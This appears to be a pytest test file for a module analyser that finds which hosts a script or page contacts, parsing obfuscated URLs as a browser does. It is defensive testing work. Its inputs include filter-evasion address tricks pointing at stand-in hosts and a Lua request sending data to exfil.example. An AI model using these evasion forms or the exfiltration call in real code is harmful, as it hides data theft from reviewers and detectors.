"""The host of an address as a browser reads it, in every reader of the analyser (Lua and
JavaScript strings, HTML attributes and text, CSS, a Lua ``request``): the WHATWG URL
parser drops tabs and line breaks anywhere, reads the scheme in any case, passes over any
number of slashes either way after an http(s) scheme (``https:\\\\h``, ``https:/\\h``,
``https:///h``), takes ``//h`` in a page as the page's scheme, decodes a host's percent
escapes, maps it to ASCII (``ｅ`` is ``e``, ``。`` is ``.``) and reads a number as an IPv4
address.  Every module here is our own."""

from __future__ import annotations

import pytest

from risutools.analysis import analyze
from risutools.analysis.js import decode_js_string
from risutools.analysis.model import Analysis
from risutools.analysis.urlleaks import address_host, host_of, page_address_host, url_hosts
from risutools.formats.model import Module


def lua(code: str, **extra: object) -> Analysis:
    return analyze(Module({"name": "L", "id": "l", "lowLevelAccess": True, **extra,
                           "trigger": [{"comment": "t", "type": "start", "conditions": [],
                                        "effect": [{"type": "triggerlua", "code": code}]}]}))


def background(html: str) -> Analysis:
    return analyze(Module({"name": "B", "id": "b", "backgroundEmbedding": html}))


def hosts(a: Analysis) -> set[str]:
    return {h.name for h in a.url_hosts}


# -- Lua strings (source text: the escapes are Lua's) ----------------------------------------

@pytest.mark.parametrize("literal", [
    r'"https:\\evil.example/x"',          # one backslash in the value: https:\evil...
    r'"https:\\\\evil.example/x"',        # two: https:\\evil.example
    r'"https:/\\evil.example/x"',
    r'"https:///evil.example/x"',
    r'"ht\ttps://evil.example/x"',        # a tab in the scheme (dropped by a browser)
    r'"https:/\n/evil.example/x"',        # a line break among the slashes
    r'"https://ｅvil。example/x"',
])
def test_a_lua_string_names_the_host_a_browser_would_load(literal: str) -> None:
    assert hosts(lua(f"local s = {literal}")) == {"evil.example"}


@pytest.mark.parametrize("literal", [
    r'"https:\\evil.example/x"', r'"https:///evil.example/x"', r'"https://\\evil.example/x"',
    r'"https://0x7f.1/x"',
])
def test_a_request_names_the_host_of_such_an_address(literal: str) -> None:
    a = lua(f"function onStart(id) request(id, {literal}) end")
    assert [h.name for h in a.network_hosts] == (
        ["127.0.0.1"] if "0x7f" in literal else ["evil.example"])


def test_a_request_built_on_such_an_address_names_its_host() -> None:
    a = lua(r"function onStart(id) request(id, 'https:\\\\exfil.example/q?d=' .. x) end")
    assert [h.name for h in a.network_hosts] == ["exfil.example"]


# -- JavaScript strings (their escapes decoded first) ----------------------------------------

@pytest.mark.parametrize("literal", [
    r'"https:\\evil.example/x"', r'"https:\/\/evil.example/x"', r"'\u0068ttps://evil.example'",
    r'"https://\u0065vil.example/"', r'"https:\x2f\x2fevil.example"', r"`HTTPS:/\\evil.example`",
    r'"https://\u{65}vil.example"',
])
def test_a_js_string_names_the_host_a_browser_would_load(literal: str) -> None:
    assert hosts(lua("", cjs=f"fetch({literal});")) == {"evil.example"}


def test_js_escapes_are_decoded_as_javascript_does() -> None:
    assert decode_js_string(r"a\nb\x41\u0042\u{43}\q\\\/") == "a\nbABCq\\/"
    assert decode_js_string("a\\\nb\\\r\nc") == "abc"  # line continuations
    assert decode_js_string(r"\u{110000}\u{41") == "\ufffdu{41"  # (out of range; unclosed)


# -- HTML attributes, text and CSS -----------------------------------------------------------

@pytest.mark.parametrize("html", [
    '<img src="//evil.example/x.png">',
    '<img src="/\\evil.example/x.png">',
    '<a href="\\\\evil.example/">x</a>',
    '<img src="ht&#9;tps://evil.example/x">',
    '<img src="ht\ntps://evil.example/x">',
    '<img src="https:evil.example/x">',
    '<a href="/x" ping="/p //evil.example/p">x</a>',
    '<img srcset="a.png 1x, //evil.example/b.png 2x">',
    '<div style="background: url(https:\\5c evil.example/a.png)"></div>',
    'text https:\\\\evil.example/x',
])
def test_html_names_the_host_a_browser_would_load(html: str) -> None:
    assert "evil.example" in hosts(background(html)), html


@pytest.mark.parametrize("html", [
    '<p title="//evil.example/x">x</p>',       # not an address
    '<img src="/evil.example/x.png">',         # a path of the page
    '<img src="evil.example/x.png">',
    '<a href="mailto://evil.example">x</a>',   # not a special scheme: no host read
    '<img src="https://1.2.3.4.5/">',          # a number that is no IPv4 address
    '<img src="https://09.1/">',
    '<img src="https:// evil.example/">',
])
def test_what_a_browser_loads_from_no_host_is_no_host(html: str) -> None:
    got = hosts(background(html + '<img src="//ok.example/">'))
    assert got == {"ok.example"}, html


# -- the readers themselves ------------------------------------------------------------------

@pytest.mark.parametrize(("authority", "host"), [
    ("0x7f.1", "127.0.0.1"), ("2130706433", "127.0.0.1"), ("127.1", "127.0.0.1"),
    ("0177.0.0.1", "127.0.0.1"), ("1.2.3.4.5", None),
    ("256.0.0.1", None), ("09.1", None), ("ｅvil。example", "evil.example"),
    ("EVIL．EXAMPLE", "evil.example"), ("ev\u00adil.example", "evil.example"),
    ("évil.example", "xn--vil-9la.example"), ("a\tb.example", "ab.example"),
])
def test_host_of_reads_hosts_as_a_browser(authority: str, host: str | None) -> None:
    assert host_of(authority) == host


@pytest.mark.parametrize(("url", "whole", "page"), [
    ("https:\\\\h.example/x", "h.example", "h.example"),
    ("https:h.example", "h.example", "h.example"),  # (no page: new URL reads it so)
    (" \x00https://h.example ", "h.example", "h.example"),
    ("//h.example", None, "h.example"), ("\\/h.example", None, "h.example"),
    ("/h.example", None, None), ("javascript://h.example", None, None),
    ("https://", None, None), ("https://{{user}}/", None, None), ("", None, None),
])
def test_whole_addresses(url: str, whole: str | None, page: str | None) -> None:
    assert address_host(url) == whole and page_address_host(url) == page


def test_running_text_needs_a_slash_after_the_scheme() -> None:
    """In running text ``https:`` then a word is no address (``https: 로 시작``)."""
    got = [h for _, h in url_hosts("https: word, https:word and https:/one.example")]
    assert got == ["one.example"]
